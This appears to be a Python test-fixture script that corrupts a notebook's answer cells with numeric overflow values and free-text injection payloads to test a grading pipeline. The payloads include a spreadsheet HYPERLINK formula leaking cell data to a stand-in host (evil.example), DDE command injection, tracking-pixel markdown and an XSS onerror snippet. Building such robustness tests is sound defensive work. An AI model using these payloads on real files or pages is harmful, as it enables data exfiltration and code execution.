"""Put number bombs in the answers cells and injections in the free-text answers."""
import json
from pathlib import Path

BOMBS = ["1x10^400", "1/0", "1e" + "9" * 4401, "1e999999"]
INJECTIONS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click me")', "+cmd|' /C calc'!A0",
              "![tracker](http://evil.example/pixel.png) [click](http://evil.example) <img src=x onerror=alert(1)>",
              "@SUM(1+1)*cmd|' /C calc'!A0 \x1b[31mred\x1b[0m \x07"]


def build(dest: Path) -> None:
    path = dest / "linear_attention.ipynb"
    nb = json.loads(path.read_text())
    bombs, injections = iter(BOMBS * 4), iter(INJECTIONS * 4)
    for cell in nb["cells"]:
        tags = cell.get("metadata", {}).get("tags", [])
        source = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
        if "answers" in tags:
            lines = [f"{line.split(':', 1)[0]}: {next(bombs)}" if ":" in line and not line.startswith("`") else line
                     for line in source.split("\n")]
            cell["source"] = "\n".join(lines)
        elif any(t.startswith("answer:") for t in tags):
            cell["source"] = source.split("\n", 1)[0] + "\n\n" + next(injections)
    path.write_text(json.dumps(nb))
